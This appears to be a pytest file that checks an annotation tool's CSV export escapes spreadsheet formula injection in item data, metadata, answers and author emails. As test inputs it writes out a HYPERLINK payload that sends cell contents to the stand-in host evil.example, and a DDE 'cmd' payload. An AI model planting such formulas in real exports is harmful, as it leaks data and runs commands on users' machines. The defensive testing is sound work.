"""CSV formula injection: a cell that starts with =, +, -, @, a tab or a carriage return would
run as a formula in a spreadsheet. Annotators control some cells (their answers, their email),
importers others (data, meta): each comes out prefixed with a single quote, in a quoted cell."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from goldlabel.formats.exports import safe_cell
from tests.api.conftest import Api, add_member

LEADS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_each_dangerous_lead_is_quoted_away() -> None:
    for lead in LEADS:
        assert safe_cell(lead + PAYLOAD) == "'" + lead + PAYLOAD
    assert safe_cell("fine =1+1") == "fine =1+1" and safe_cell("") == ""
    # plain numbers are no formula: a rating of -1 stays a number
    assert [safe_cell(n) for n in ("-1", "+2.5", "-3e4", "-.5")] == ["-1", "+2.5", "-3e4", "-.5"]
    assert safe_cell("-1+1") == "'-1+1" and safe_cell("-2-cmd|' /C calc'!A0") == "'-2-cmd|' /C calc'!A0"


@pytest.mark.parametrize("lead", LEADS)
def test_cells_from_data_meta_answers_and_author_are_escaped(
    manager: Api, project: dict[str, Any], client_for: Any, lead: str
) -> None:
    pid = project["id"]
    evil = lead + PAYLOAD
    rows = [{"data": {"text": evil}, "meta": {"source": evil, lead + "key": "x"}}]
    assert manager.post(f"/api/projects/{pid}/items", json=rows).status_code == 201
    item = manager.get(f"/api/projects/{pid}/items").json()["items"][0]["id"]
    # an email cannot start with a tab, a return or "@": "-" stands in for those leads
    email = (lead if lead in "=+-" else "-") + "evil@example.com"
    author = client_for(email)
    add_member(manager, pid, email, "manager")
    body = {"result": {"sentiment": "positive", "note": evil[:50]}, "status": "submitted"}
    assert author.post(f"/api/items/{item}/annotations", json=body).status_code == 201

    text = manager.get(f"/api/projects/{pid}/export?format=csv&consensus=true").text
    # every cell is quoted, so a tab or a return inside stays in its cell
    assert all(line.startswith('"') for line in text.split("\r\n") if line)
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["text"] == "'" + evil
    assert row["meta.source"] == "'" + evil
    assert row["meta." + lead + "key"] == "x"  # a header cell starts with "meta.": no formula
    assert row["note"] == "'" + evil[:50]
    assert row["consensus.note"] == "'" + evil[:50]
    assert row["author"] == "'" + email
    for cell in row.values():
        assert not cell.startswith(tuple(LEADS)), cell
